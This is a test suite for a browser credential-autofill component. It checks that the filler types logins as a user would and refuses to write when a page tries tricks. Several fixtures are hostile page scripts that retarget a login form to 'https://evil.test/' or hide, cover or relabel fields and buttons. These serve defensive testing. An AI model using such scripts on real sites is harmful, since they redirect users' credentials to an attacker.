// What is written into a page, in a real Chromium: as a user would, into what was described alone, and taken back out
// when it does not work.

import assert from 'node:assert/strict';
import {after, before, describe, test} from 'node:test';

import {startPageWorld} from './page_world.js';

/** @type {Awaited<ReturnType<typeof startPageWorld>>} */ let world;
before(async () => { world = await startPageWorld(); });
after(() => world?.stop());

const FORM = '<form id="f" action="/in" method="post"><input id="user" name="user"><input id="password" type="password"><button id="go">Log in</button></form>';
// Keeps the page, and counts what would have been sent.
const COUNTED = '<script>globalThis.sent = []; addEventListener("submit", (event) => { event.preventDefault(); sent.push([...document.querySelectorAll("input")].map((input) => input.value)); });</script>';
const BOTH = {user: 'zilla', password: 'pass word'};
const sent = () => world.page.evaluate(() => globalThis.sent);

describe('filling', () => {
  test('writes all values, then presses the control', async () => {
    await world.show(FORM + COUNTED);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
  });

  test('fires what a user\'s typing fires, in order', async () => {
    await world.show(`${FORM}<script>
      globalThis.events = [];
      for (const type of ['focus', 'beforeinput', 'input', 'change', 'blur']) user.addEventListener(type, () => events.push(type));
      for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) go.addEventListener(type, () => events.push(type));
    </script>${COUNTED}`);
    await world.fill({user: 'zilla'}, {click: 'go'});
    const events = await world.page.evaluate(() => globalThis.events);
    assert.deepEqual(events.filter((type) => type !== 'blur'), ['focus', 'beforeinput', 'input', 'change', 'pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']);
    assert.ok(events.includes('blur'));
  });

  test('is accepted by an input that a framework controls', async () => {
    // As React does it: a setter on the element remembers the value, an input event with the remembered value is ignored,
    // and what state does not hold is put back.
    await world.show(`${FORM}<script>
      let remembered = '', state = '';
      const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
      Object.defineProperty(user, 'value', {get() { return own.get.call(this); }, set(value) { remembered = value; own.set.call(this, value); }, configurable: true});
      user.addEventListener('input', () => { const now = own.get.call(user); if (now !== remembered) { remembered = now; state = now; } own.set.call(user, state); });
    </script>${COUNTED}`);
    assert.equal(await world.fill({user: 'zilla'}, {click: 'go'}), 'submitted');
    assert.equal(await world.valueOf('user'), 'zilla');
  });

  test('chooses from a list by an entry\'s text or value, and sends nothing where there is no such entry', async () => {
    const list = '<form id="f" action="/in" method="post"><select id="school"><option value="">Choose…</option><option value="7"> Contentzilla </option><option value="9">Other</option></select><input id="user"><button id="go">Log in</button></form>';
    for (const [value, kept] of [['Contentzilla', '7'], ['9', '9']]) {
      await world.show(list + COUNTED);
      assert.equal(await world.fill({school: value, user: 'zilla'}, {click: 'go'}), 'submitted');
      assert.equal(await world.valueOf('school'), kept);
    }
    await world.show(list + COUNTED);
    assert.equal(await world.fill({school: 'Nowhere', user: 'zilla'}, {click: 'go'}), 'not_kept');
    assert.equal(await world.valueOf('school'), '');
    assert.deepEqual(await sent(), []);
  });

  test('waits for a field that is still on its way to its place', async () => {
    await world.show(`${FORM}<script>globalThis.beforeFill = () => { f.style.transform = 'translateX(80px)' }</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
  });

  test('leaves each field, so that a check on leaving enables the control', async () => {
    await world.show(`<form id="f"><input id="user"><input id="password"><button id="go" disabled>Log in</button></form><script>
      const left = new Set();
      for (const field of [user, password]) field.addEventListener('blur', () => { if (field.value) left.add(field.id); go.disabled = left.size < 2 });
    </script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
  });

  test('writes into a read-only field that opens itself when it gets the focus', async () => {
    await world.show(`${FORM}<script>user.readOnly = true; user.onfocus = () => { user.readOnly = false }</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
  });

  const WRITTEN = '<script>globalThis.written = 0; addEventListener("input", () => { written += 1 }, true)</script>';
  const tricks = {
    'a field that hides when it gets the focus': ['field_hidden', 'user.onfocus = () => { f.style.opacity = 0 }'],
    'a field that is covered when it gets the focus': ['field_hidden', 'user.onfocus = () => document.body.insertAdjacentHTML("beforeend", "<b style=\'position:fixed;inset:0\'>!</b>")'],
    'a form that changes its target when a field gets the focus': ['target_changed', 'user.onfocus = () => { f.action = "https://evil.test/" }'],
    'a field that never rests': ['field_hidden', 'f.style.position = "relative"; let at = 0; globalThis.beforeFill = () => { at += 17; f.style.left = `${at % 400}px` }; setInterval(beforeFill, 1)'],
    'a field that never rests, and is filled at once': ['field_hidden', 'f.style.position = "relative"; let at = 0; setInterval(() => { at += 17; f.style.left = `${at % 400}px` }, 4)'],
    'a field that stays read-only': ['not_kept', 'password.readOnly = true'],
  };
  for (const [what, [result, script]] of Object.entries(tricks)) {
    test(`writes nothing into ${what}`, async () => {
      await world.show(`${FORM}<script>${script}</script>${COUNTED}${WRITTEN}`);
      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
      assert.equal(await world.page.evaluate(() => globalThis.written), 0);
      assert.deepEqual(await sent(), []);
    });
  }

  test('writes a code into boxes that move the focus themselves', async () => {
    const boxes = Array.from({length: 6}, (_, index) => `<input id="b${index}" maxlength="1">`).join('');
    await world.show(`<form>${boxes}<button id="go">Verify</button></form><script>
      for (const box of document.querySelectorAll('input')) box.addEventListener('input', () => box.nextElementSibling?.focus());
    </script>${COUNTED}`);
    const digits = Object.fromEntries([...'012345'].map((digit, index) => [`b${index}`, digit]));
    assert.equal(await world.fill(digits, {click: 'go'}), 'submitted');
    assert.deepEqual(await sent(), [[...'012345']]);
  });

  test('waits for a control that is enabled by the input', async () => {
    await world.show(`${FORM}<script>go.disabled = true; user.addEventListener('input', () => setTimeout(() => { go.disabled = false; }, 50));</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    assert.equal((await sent()).length, 1);
  });

  test('presses a control that says something else once there is something to send', async () => {
    await world.show(`${FORM}<script>password.addEventListener('input', () => { go.textContent = 'Go on'; });</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    assert.equal((await sent()).length, 1);
  });

  test('brings what a bar at the edge of the window lies over out from under it', async () => {
    await world.show(`<div style="height:300px"></div>${FORM.replace('<button', '<p style="height:340px"></p><button')}<div style="height:900px"></div>
      <div style="position:fixed;left:0;right:0;bottom:0;height:60px;background:#eee">We use cookies</div>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
  });

  test('presses Enter as browsers take it: the form\'s button, or the form', async () => {
    await world.show(FORM + COUNTED);
    assert.equal(await world.fill(BOTH, {enter: 'password'}), 'submitted');
    assert.equal((await sent()).length, 1);
    await world.show(`<form><input id="user"></form>${COUNTED}`);
    assert.equal(await world.fill({user: 'zilla'}, {enter: 'user'}), 'submitted');
    assert.deepEqual(await sent(), [['zilla']]);
  });

  test('leaves Enter to a page that takes it itself', async () => {
    await world.show(`${FORM}<script>password.addEventListener('keydown', (event) => { if (event.key === 'Enter') { event.preventDefault(); globalThis.own = password.value; } });</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {enter: 'password'}), 'submitted');
    assert.equal(await world.page.evaluate(() => globalThis.own), 'pass word');
    assert.deepEqual(await sent(), []);
  });

  test('scrolls to a field that is out of view', async () => {
    await world.show(`<div style="height:4000px"></div>${FORM}${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
  });

  test('opens a field that is writable only with the focus', async () => {
    await world.show(`${FORM}<script>user.readOnly = true; user.addEventListener('focus', () => { user.readOnly = false; });</script>${COUNTED}`);
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
  });
});

describe('nothing is written', () => {
  // What the page does between the description and the fill, and what is reported.
  const changes = {
    'into a field that is gone': ['user.remove()', 'field_gone'],
    'when the control is gone': ['go.remove()', 'field_gone'],
    'into a field that was replaced': ['user.replaceWith(user.cloneNode())', 'field_gone'],
    'into a field that was hidden': ['password.style.opacity = 0', 'field_hidden'],
    'into a field that was moved away': ['password.style.cssText = "position:absolute;left:-9999px"', 'field_hidden'],
    'into a field that was covered': ['document.body.append(Object.assign(document.createElement("div"), {style: "position:fixed;inset:0;background:#fff"}))', 'field_hidden'],
    'into a field that was disabled': ['password.disabled = true', 'field_hidden'],
    'into a form with another target': ['f.action = "https://evil.test/"', 'target_changed'],
    'under another base': ['document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.test/"}))', 'target_changed'],
    'before a control that says something else': ['go.textContent = "Delete my account"', 'field_gone'],
    'before a control that was moved into a form with another target': ['document.body.append(Object.assign(document.createElement("form"), {id: "g", action: "https://evil.test/"})); go.setAttribute("form", "g")', 'target_changed'],
    'before a control with another target': ['go.formAction = "https://evil.test/"', 'target_changed'],
    'before a control whose target is no address': ['go.setAttribute("formaction", "http://[")', 'target_changed'],
    'into a field that was moved to another form': ['document.body.append(Object.assign(document.createElement("form"), {id: "g", action: "https://evil.test/"})); user.setAttribute("form", "g")', 'target_changed'],
  };
  for (const [what, [script, result]] of Object.entries(changes)) {
    test(what, async () => {
      await world.show(`${FORM}<script>
        globalThis.inputs = 0; addEventListener('input', () => { inputs += 1; });
        globalThis.beforeFill = () => { ${script} };
      </script>${COUNTED}`);
      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
      assert.equal(await world.page.evaluate(() => globalThis.inputs), 0);
      assert.deepEqual(await sent(), []);
    });
  }
});

describe('an entry of a list', () => {
  const LIST = '<form id="f" action="/choose" method="post"><button id="go" name="who" aria-label="">zilla@acme.test</button></form>';
  test('is pressed, and nothing else', async () => {
    await world.show(LIST);
    await Promise.all([world.page.waitForNavigation(), world.fill({}, {click: 'go'}).catch(() => {})]);
    assert.deepEqual(world.posted(), ['https://app.test/choose']);
  });

  // What the page does between the description and the press.
  const changes = {
    'that says something else': ['go.textContent = "Delete zilla@acme.test"', 'field_gone'],
    'that is called something else': ['go.setAttribute("aria-label", "Remove")', 'field_gone'],
    'that is gone': ['go.remove()', 'field_gone'],
    'that is hidden': ['go.style.opacity = 0', 'field_hidden'],
    'that is covered': ['document.body.append(Object.assign(document.createElement("div"), {style: "position:fixed;inset:0;background:#fff"}))', 'field_hidden'],
    'whose form has another target': ['f.action = "https://evil.test/"', 'target_changed'],
    'that has another target itself': ['go.formAction = "https://evil.test/"', 'target_changed'],
    'that was moved to another form': ['document.body.append(Object.assign(document.createElement("form"), {id: "g", action: "https://evil.test/"})); go.setAttribute("form", "g")', 'target_changed'],
    'that says something else once it can be pressed': ['go.disabled = true; setTimeout(() => { go.textContent = "Delete"; go.disabled = false; }, 60)', 'field_gone'],
  };
  for (const [what, [script, result]] of Object.entries(changes)) {
    test(`${what} is not pressed`, async () => {
      await world.show(`${LIST}<script>
        globalThis.pressed = 0; for (const type of ['pointerdown', 'click']) addEventListener(type, () => { pressed += 1; }, true);
        globalThis.beforeFill = () => { ${script} };
      </script>`);
      assert.equal(await world.fill({}, {click: 'go'}), result);
      assert.equal(await world.page.evaluate(() => globalThis.pressed), 0);
      assert.deepEqual(world.posted(), []);
    });
  }

  test('that is a link which leads elsewhere now is not pressed', async () => {
    await world.show('<a id="go" href="/zilla">zilla@acme.test</a><script>globalThis.beforeFill = () => { go.href = "/delete"; }</script>');
    assert.equal(await world.fill({}, {click: 'go'}), 'field_gone');
  });

  for (const type of ['pointerdown', 'click', 'submit']) {
    test(`whose form's target changes at the ${type} sends nothing`, async () => {
      await world.show(`${LIST}<script>addEventListener('${type}', () => { f.action = 'https://evil.test/'; }, true);</script>`);
      assert.equal(await world.fill({}, {click: 'go'}), 'target_changed');
      assert.deepEqual(world.posted(), []);
    });
  }
});

describe('in a tab without the focus', () => {
  const HEARD = `<script>
    globalThis.heard = [];
    for (const type of ['focus', 'focusin', 'blur', 'focusout']) {
      for (const field of document.querySelectorAll('input')) field.addEventListener(type, () => heard.push(field.id + ' ' + type));
    }
  </script>`;
  const heard = () => world.page.evaluate(() => globalThis.heard);

  test('fields hear that they are entered and left, as the browser tells nobody', async () => {
    await world.show(FORM + COUNTED + HEARD);
    await world.withoutFocus(async () => {
      assert.equal(await world.page.evaluate(() => document.hasFocus()), false);
      assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    });
    assert.deepEqual(await heard(), [
      'user focus', 'user focusin', 'user blur', 'user focusout', 'password focus', 'password focusin', 'password blur', 'password focusout',
    ]);
    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
  });

  test('a check on leaving the last field enables the control', async () => {
    await world.show(`<form id="f"><input id="user"><input id="password"><button id="go" disabled>Log in</button></form><script>
      const left = new Set();
      for (const field of [user, password]) field.addEventListener('blur', () => { if (field.value) left.add(field.id); go.disabled = left.size < 2 });
    </script>${COUNTED}${HEARD}`);
    await world.withoutFocus(async () => {
      assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    });
    // Once to see whether the control is enabled by it, once more as the control is pressed.
    assert.deepEqual((await heard()).slice(-4), ['password blur', 'password focusout', 'password blur', 'password focusout']);
    assert.deepEqual(await sent(), [['zilla', 'pass word']]);
  });

  test('Enter goes to the field that was written last, which is not entered twice', async () => {
    await world.show(`${FORM}${COUNTED}${HEARD}`);
    await world.withoutFocus(async () => {
      assert.equal(await world.fill(BOTH, {enter: 'password'}), 'submitted');
      assert.deepEqual((await heard()).filter((one) => one.startsWith('password focus')), ['password focus', 'password focusin']);
    });
    assert.equal((await sent()).length, 1);
  });

  test('a read-only field opens itself', async () => {
    await world.show(`${FORM}<script>user.readOnly = true; user.onfocus = () => { user.readOnly = false }</script>${COUNTED}`);
    await world.withoutFocus(async () => {
      assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    });
    assert.equal(await world.valueOf('user'), 'zilla');
  });
});

describe('what is written in a frame is held', () => {
  // The page's clock is the test's: nothing waits five seconds.
  const CLOCK = `<script>
    const {setTimeout: set, clearTimeout: clear} = globalThis;
    globalThis.late = new Map();
    globalThis.setTimeout = (task, ms) => { if (ms < 2_000) return set(task, ms); late.set(-late.size - 1, {task, ms}); return -late.size; };
    globalThis.clearTimeout = (timer) => { if (!late.delete(timer)) clear(timer); };
  </script>`;
  const hold = async (markup = FORM) => {
    await world.show(CLOCK + markup + COUNTED);
    assert.equal(await world.fill(BOTH, {click: 'go', hold: true}), 'written');
    assert.deepEqual([await world.valueOf('password'), await sent()], ['pass word', []]);
  };
  const values = async () => [await world.valueOf('user'), await world.valueOf('password')];
  const press = () => world.page.evaluate(() => cerby.pressHeld());
  const late = () => world.page.evaluate(() => [...globalThis.late.values()].map(({ms}) => ms));

  test('until it is pressed, once', async () => {
    await hold();
    assert.equal(await press(), 'submitted');
    assert.deepEqual([await sent(), await late()], [[['zilla', 'pass word']], []]);
    assert.equal(await press(), 'not_kept');
    assert.equal((await sent()).length, 1);
  });
  test('until it is taken back: it cannot be pressed then', async () => {
    await hold();
    await world.page.evaluate(() => cerby.takeBack());
    assert.deepEqual(await values(), ['', '']);
    assert.equal(await press(), 'not_kept');
    assert.deepEqual([await sent(), await late()], [[], []]);
  });
  test('for five seconds at most', async () => {
    await hold();
    assert.deepEqual(await late(), [5_000]);
    await world.page.evaluate(() => globalThis.late.values().next().value.task());
    assert.deepEqual(await values(), ['', '']);
    assert.equal(await press(), 'not_kept');
    assert.deepEqual(await sent(), []);
  });
  test('until the launch is over', async () => {
    await hold();
    await world.page.evaluate(() => cerby.forget());
    assert.deepEqual([await values(), await late()], [['', ''], []]);
  });
  for (const [what, script, result] of [
    ['sends it elsewhere', 'f.action = "https://evil.test/"', 'target_changed'], ['has another value in it', 'user.value = "other"', 'not_kept'],
    ['hides it', 'f.style.opacity = 0', 'field_hidden'], ['has no such field', 'user.remove()', 'field_gone'],
  ]) {
    test(`and is not pressed where the page ${what} by then`, async () => {
      await hold(`${FORM}<script>globalThis.change = () => { ${script} }</script>`);
      await world.page.evaluate(() => globalThis.change());
      assert.equal(await press(), result);
      assert.deepEqual([await world.valueOf('password'), await sent()], ['', []]);
    });
  }
});

describe('what was written is taken back out', () => {
  const refusals = {
    'when the page does not keep it': ['password.addEventListener("input", () => { password.value = ""; })', 'not_kept'],
    'when the page changes another field on the way': ['password.addEventListener("input", () => { user.value = "other"; })', 'not_kept'],
    'when the form\'s target changes at the focus': ['password.addEventListener("focus", () => { f.action = "https://evil.test/"; })', 'target_changed'],
    'when the form\'s target changes at the input': ['password.addEventListener("input", () => { f.action = "https://evil.test/"; })', 'target_changed'],
    'when the control\'s target becomes no address': ['password.addEventListener("input", () => { go.setAttribute("formaction", "http://["); })', 'target_changed'],
    'when the control is never enabled': ['go.disabled = true', 'not_kept'],
    'when a field is hidden at the input': ['password.addEventListener("input", () => { f.style.opacity = 0; })', 'field_hidden'],
    'when the first field is covered at the last input': ['password.addEventListener("input", () => { const {left, top, width, height} = user.getBoundingClientRect(); document.body.append(Object.assign(document.createElement("div"), {style: `position:absolute;background:#fff;left:${left + scrollX}px;top:${top + scrollY}px;width:${width}px;height:${height}px`})); })', 'field_hidden'],
    'when the control is hidden at the input': ['password.addEventListener("input", () => { go.style.visibility = "hidden"; })', 'field_hidden'],
    'when a field goes away at the input': ['password.addEventListener("input", () => user.remove())', 'field_gone'],
  };
  for (const [what, [script, result]] of Object.entries(refusals)) {
    test(what, async () => {
      await world.show(`${FORM}<script>${script}</script>${COUNTED}`);
      assert.equal(await world.fill(BOTH, {click: 'go'}), result);
      assert.equal(await world.valueOf('password'), '');
      assert.notEqual(await world.page.evaluate(() => document.getElementById('user')?.value), 'zilla');
      assert.deepEqual(await sent(), []);
    });
  }

  // The form is really submitted here: what it sends, and where to, is what counts.
  for (const type of ['pointerdown', 'mousedown', 'click', 'submit']) {
    test(`when the form's target changes at the ${type}, and nothing is sent`, async () => {
      await world.show(`${FORM}<script>addEventListener('${type}', () => { f.action = 'https://evil.test/'; }, true);</script>`);
      assert.equal(await world.fill(BOTH, {click: 'go'}), 'target_changed');
      assert.equal(await world.valueOf('password'), '');
      assert.deepEqual(world.posted(), []);
    });
  }

  const FIELDS = '<input id="user" name="user"><input id="password" name="pass" type="password"><button id="go">Log in</button>';
  const ASTRAY = 'form.action = "https://evil.test/";';
  const forms = {
    'in a shadow root': `<div id="host"></div><script>
      const root = host.attachShadow({mode: 'open'});
      root.innerHTML = '<form action="/in" method="post">${FIELDS}</form>';
      const form = root.querySelector('form');
      form.addEventListener('submit', () => { ${ASTRAY} });
    </script>`,
    'that its fields stand outside of': `<form id="form" action="/in" method="post"></form>${FIELDS.replaceAll(' id=', ' form="form" id=')}<script>
      form.addEventListener('submit', () => { ${ASTRAY} });
    </script>`,
    'whose page keeps its submit to itself': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
      form.addEventListener('submit', (event) => { event.stopImmediatePropagation(); ${ASTRAY} });
    </script>`,
    'that a script sends': `<form id="form" action="/in" method="post">${FIELDS}</form><script>
      go.addEventListener('click', (event) => { event.preventDefault(); ${ASTRAY} form.submit(); });
    </script>`,
  };
  for (const [what, markup] of Object.entries(forms)) {
    test(`a form ${what}, when its target changes: no value goes there`, async () => {
      await world.show(markup);
      const result = await world.fill(BOTH, {click: 'go'});
      // What was sent has been sent by now: the page answers after the navigation, if there is one.
      await world.page.evaluate(() => new Promise((resolve) => { setTimeout(resolve); })).catch(() => {});
      await world.page.waitForFunction(() => document.readyState === 'complete');
      assert.equal(result, 'target_changed');
      assert.doesNotMatch(world.bodies().join('\n'), /pass|zilla/);
    });
  }

  test('a form whose target stays is sent there', async () => {
    await world.show(FORM);
    await Promise.all([world.page.waitForNavigation(), world.fill(BOTH, {click: 'go'}).catch(() => {})]);
    assert.deepEqual(world.posted(), ['https://app.test/in']);
  });

  test('afterwards, when nothing came of it; what stood there before is back', async () => {
    await world.show('<input id="user" value="before"><input id="password" type="password"><div role="button" id="go">Log in</div>');
    assert.equal(await world.fill(BOTH, {click: 'go'}), 'submitted');
    await world.page.evaluate(() => cerby.takeBack());
    assert.deepEqual([await world.valueOf('user'), await world.valueOf('password')], ['before', '']);
  });

  test('but not what the user has typed meanwhile', async () => {
    await world.show('<input id="user"><div role="button" id="go">Log in</div>');
    await world.fill({user: 'zilla'}, {click: 'go'});
    await world.page.evaluate(() => {
      document.getElementById('user').value = 'typed';
      cerby.takeBack();
    });
    assert.equal(await world.valueOf('user'), 'typed');
  });
});
